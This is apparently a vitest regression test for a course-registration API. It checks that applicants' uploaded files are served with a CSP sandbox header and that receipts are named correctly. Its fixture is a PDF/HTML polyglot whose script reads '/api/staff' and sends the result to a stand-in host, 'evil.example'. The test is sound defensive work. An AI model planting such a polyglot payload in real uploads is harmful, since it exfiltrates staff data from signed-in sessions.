import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { type Api, fileOf, insertCourse, send, signedInStaff, startApi, uploadTokenHeader } from "../api/harness";
import { validApplicant } from "../fixtures/registration";

// Third review, item 7: a `%PDF`/HTML polyglot was stored as sent and staff open applicants'
// files in their signed-in browser; every private file now answers `Content-Security-Policy:
// sandbox` (no script, no same-origin, whatever a browser makes of the bytes). And (round three
// of the people's trial, item 4) a receipt is named as a receipt, not "…-Certificate.jpg", and
// opens in the browser.
let api: Api;
let cookie: string;
let courseId: string;
beforeAll(async () => {
  api = await startApi();
  cookie = (await signedInStaff(api)).cookie;
  courseId = (await insertCourse(api, "Hair Styling")).id;
});
afterAll(() => api.close());

const polyglot = Buffer.from(
  "%PDF-1.4\n<html><body><script>fetch('/api/staff').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>\n%%EOF\n",
);

describe("applicants' files as staff open them", () => {
  it("every file answers with CSP sandbox; a receipt is named a receipt and opens in the page", async () => {
    const form = new FormData();
    form.set("group", "idCards");
    form.set("file", fileOf(polyglot, "nin.pdf"));
    const up = await send(api, "POST", "/api/applicant/files", {
      multipart: form,
      headers: await uploadTokenHeader(api),
    });
    expect(up.status, await up.clone().text()).toBe(201);
    const [id] = (await up.json()) as { public_id: string }[];
    const reg = await send(api, "POST", "/api/applicant", {
      form: { ...validApplicant, courseId, files: id.public_id },
    });
    expect(reg.status).toBe(201);
    const { _id, reference, statusToken } = (await reg.json()) as {
      _id: string;
      reference: string;
      statusToken: string;
    };
    const proof = new FormData();
    proof.set("transferReference", "ZEN/1");
    proof.set("file", fileOf(polyglot, "receipt.pdf"));
    expect((await send(api, "POST", `/api/application/${statusToken}/proof`, { multipart: proof })).status).toBe(201);
    const detail = (await (await send(api, "GET", `/api/applicants/${_id}`, { cookie })).json()) as {
      paymentProofFile: string;
    };

    const headersOf = async (path: string) => {
      const res = await send(api, "GET", path, { cookie });
      await res.arrayBuffer();
      return {
        status: res.status,
        csp: res.headers.get("content-security-policy"),
        disposition: res.headers.get("content-disposition"),
      };
    };
    for (const file of [id.public_id, detail.paymentProofFile])
      for (const view of ["", "?view=inline"])
        expect((await headersOf(`/api/files/${file}${view}`)).csp).toBe("sandbox");
    const receipt = await headersOf(`/api/files/${detail.paymentProofFile}?view=inline`);
    expect(receipt.disposition).toBe(
      `inline; filename="${reference}-Amaka-Eze-Receipt.pdf"; filename*=UTF-8''${reference}-Amaka-Eze-Receipt.pdf`,
    );
  });
});
